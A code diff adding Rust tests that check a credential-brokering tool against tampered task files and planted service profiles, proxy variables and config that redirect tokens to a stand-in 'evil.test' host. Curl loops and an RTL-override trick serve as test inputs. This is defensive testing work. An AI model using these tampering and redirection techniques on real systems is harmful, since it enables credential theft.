@@ -110,3 +110,96 @@ fn a_limit_on_uses_is_exact() {
     assert_eq!(exit.stdout.matches("403").count(), 5, "{exit:?}");
     assert_eq!(echo.log().count_saw(&secret), 3);
 }
+
+/// A task file changed between two runs, by whoever can write to the workspace: more operations, another repository, a host.
+#[test]
+fn a_task_file_that_changed_since_it_took_effect_opens_nothing_and_the_change_is_shown() {
+    let house = House::new();
+    let (api, token) = github(&house);
+    let evil = marque_testkit::upstream::Echo::start(Options::plain()).unwrap();
+    let workspace = house.dir.path().join("workspace");
+    std::fs::create_dir(&workspace).unwrap();
+    let file = workspace.join("task.toml");
+    let before = "task = 1\npurpose = \"read the pull requests\"\nenv = \"staging\"\n[[grant]]\nservice = \"github\"\nallow = [\"repo.read\"]\non = [\"acme/*\"]\n";
+    std::fs::write(&file, before).unwrap();
+    let url = format!("https://api.github.test:{}/repos/acme/web/pulls", api.port());
+    let other = format!("https://api.github.test:{}/repos/other/web/pulls", api.port());
+    let elsewhere = format!("http://evil.test:{}", evil.port());
+    let pin = format!("evil.test:{}=127.0.0.1", evil.port());
+    let script = format!("for u in {url} {other} {elsewhere}/x; do curl -sS -o /dev/null -w '%{{http_code}} ' $u; done");
+    let run = |task: &Path| house.run_owner(&["run", "--task", task.to_str().unwrap(), "--pin", &pin, "--", "/bin/sh", "-c", &script]);
+    assert_eq!(run(&file).stdout, "200 403 403 ");
+    assert_eq!(run(&file).stdout, "200 403 403 ", "unchanged it runs again");
+    let after = format!("{}[egress]\nallow = [\"{elsewhere}\"]\n# \u{202e}lla\n", before.replace("acme/*", "*/*"));
+    std::fs::write(&file, &after).unwrap();
+    // A link to it, and a path with dots, are the same file.
+    let link = workspace.join("link.toml");
+    std::os::unix::fs::symlink("../workspace/task.toml", &link).unwrap();
+    for path in [&file, &link, &workspace.join("../workspace/task.toml")] {
+        let exit = run(path);
+        assert_eq!((exit.status.code(), exit.stdout.as_str()), (Some(3), ""), "{exit:?}");
+        for said in ["MQ-1401", "- on = [\"acme/*\"]", "+ on = [\"*/*\"]", "+ allow = [", "marque task apply"] {
+            assert!(exit.stderr.contains(said), "{said}: {}", exit.stderr);
+        }
+        assert!(exit.stderr.contains("+ # \u{fffd}lla") && !exit.stderr.contains('\u{202e}'), "{}", exit.stderr);
+    }
+    assert_eq!((api.log().count_saw(&token), evil.log().records().len()), (2, 0));
+    // Only the passphrase puts it in force; then it is what it says, and no credential goes to the new host.
+    let apply = ["task", "apply", file.to_str().unwrap()];
+    assert!(!house.ok(&["task", "check", file.to_str().unwrap()]).stdout.is_empty());
+    let wrong = marque_testkit::proc::Child::run(&mut house.command(&apply), crate::house::LONG).unwrap();
+    assert!(!wrong.status.success(), "without a passphrase: {wrong:?}");
+    assert_eq!(run(&file).status.code(), Some(3));
+    let exit = house.run_owner(&apply);
+    assert!(exit.status.success() && exit.stderr.contains("+ on = [\"*/*\"]"), "{exit:?}");
+    assert_eq!(run(&file).stdout, "200 200 200 ");
+    assert_eq!(evil.log().count_saw(&token), 0);
+    // The file as it was before is a change too.
+    std::fs::write(&file, before).unwrap();
+    assert_eq!(run(&file).status.code(), Some(3));
+}
+
+/// Profiles and configuration beside it: nothing in a repository, in the user's configuration or in a variable takes part.
+#[test]
+fn a_profile_that_was_changed_or_planted_moves_no_credential_to_its_host() {
+    let house = House::new();
+    let (api, token) = github(&house);
+    let cert = house.ca.issue(&["evil.test"]).unwrap();
+    let evil = marque_testkit::upstream::Echo::start(Options::tls(cert.server_config().unwrap())).unwrap();
+    let origin = format!("https://evil.test:{}", evil.port());
+    let shipped = house.ok(&["service", "show", "github"]).stdout;
+    let changed = shipped.replace("api.github.com", &format!("evil.test:{}", evil.port()));
+    assert_ne!(shipped, changed);
+    let workspace = house.dir.path().join("workspace");
+    let config = house.dir.path().join("config");
+    for dir in [workspace.join(".marque/services"), workspace.join("services"), config.join("marque/services")] {
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("github.toml"), &changed).unwrap();
+        std::fs::write(dir.parent().unwrap().join("config.toml"), format!("upstream = \"{origin}\"\nproxy = \"{origin}\"\n")).unwrap();
+    }
+    let url = format!("https://api.github.test:{}/repos/acme/web/pulls", api.port());
+    let script = format!("cd {}; for u in {url} {origin}/repos/acme/web/pulls; do curl -sS -o /dev/null -w '%{{http_code}} ' $u; done", workspace.display());
+    let ask = || {
+        let mut command = house.owner(&[
+            "run", "--purpose", "read the pull requests", "--env", "staging", "--grant", "github repo.read on acme/*",
+            "--pin", &format!("evil.test:{}=127.0.0.1", evil.port()), "--", "/bin/sh", "-c", &script,
+        ]);
+        command.current_dir(&workspace).env("XDG_CONFIG_HOME", &config);
+        for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "MARQUE_SERVICES", "MARQUE_CONFIG", "MARQUE_PROFILE", "GITHUB_API_URL"] {
+            command.env(name, &origin);
+        }
+        marque_testkit::proc::Child::run(&mut command, crate::house::LONG).unwrap()
+    };
+    let exit = ask();
+    assert!(exit.stdout.starts_with("200 ") && !exit.stdout.contains("200 200"), "{exit:?}");
+    // Even applied by its owner, a profile names no host for a credential that was added for another.
+    let file = workspace.join("services/github.toml");
+    let applied = house.run_owner(&["service", "apply", file.to_str().unwrap()]);
+    assert!(applied.status.success() && applied.stdout.contains(&origin), "{applied:?}");
+    let exit = ask();
+    assert!(exit.stdout.starts_with("200 ") && !exit.stdout.contains("200 200"), "{exit:?}");
+    // And its file, changed after that, is not looked at.
+    std::fs::write(&file, changed.replace("evil.test", "worse.test")).unwrap();
+    assert!(ask().stdout.starts_with("200 "));
+    assert_eq!((api.log().count_saw(&token), evil.log().count_saw(&token)), (3, 0));
+}
